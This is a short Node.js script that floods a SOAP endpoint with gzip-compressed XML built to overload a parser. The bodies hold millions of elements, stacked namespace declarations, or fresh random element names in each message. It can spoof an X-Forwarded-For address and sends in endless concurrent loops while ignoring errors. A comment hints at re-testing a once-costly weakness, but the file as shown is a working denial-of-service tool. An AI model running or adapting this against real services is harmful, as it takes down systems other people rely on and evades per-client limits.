// Messages of little markup that was once costly, over and over: floods.js URL ADDRESS SHAPE [COUNT]
import { gzipSync } from 'node:zlib';

const [url, address, shape, count = '4'] = process.argv.slice(2);
const many = (times, make) => Array.from({ length: times }, (_, n) => make(n)).join('');
const envelope = (inside) => `<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/">${inside}</e:Envelope>`;

const SHAPES = {
  /** Millions of elements that do not belong under the envelope. */
  elements: () => envelope('<a/>'.repeat(4_000_000)),
  /** Fifteen hundred prefixes in force, and a declaration on each element within. */
  namespaces: () =>
    envelope(
      `<e:Header><x>${many(50, (level) => `<x${many(30, (n) => ` xmlns:p${level}x${n}="u"`)}>`)}${many(5000, (n) => `<a xmlns="${n}"/>`)}`,
    ),
  /** Names that no message has, other ones in each message. */
  names: () => envelope(`<e:Header><x>${many(2000, (n) => `<n${n}x${Math.random().toString(36).slice(2, 8)}/>`)}`),
};
const made = gzipSync(SHAPES[shape]());
const headers = { 'content-type': 'text/xml', 'content-encoding': 'gzip', ...(address === '-' ? {} : { 'x-forwarded-for': address }) };

async function send() {
  const body = shape === 'names' ? gzipSync(SHAPES.names()) : made;
  const answer = await fetch(`${url}/soap/leerresultaten`, { method: 'POST', headers, body });
  return await answer.text();
}

process.stdout.write(`ready: ${await send()}\n`);
for (let n = 0; n < Number(count); n += 1) {
  (async () => {
    while (true) await send().catch(() => undefined);
  })();
}
